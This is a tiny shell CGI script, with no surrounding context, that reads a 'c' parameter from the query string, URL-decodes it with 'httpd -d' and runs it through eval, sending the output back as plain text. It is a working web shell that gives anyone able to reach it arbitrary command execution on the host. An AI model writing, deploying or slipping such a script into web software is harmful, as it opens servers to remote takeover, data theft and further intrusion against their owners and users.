#!/bin/sh
echo "Content-Type: text/plain"
echo
c=$(echo "$QUERY_STRING" | sed -n 's/^\(.*&\)\{0,1\}c=\([^&]*\).*$/\2/p')
[ -n "$c" ] && eval "$(httpd -d "$c")" 2>&1
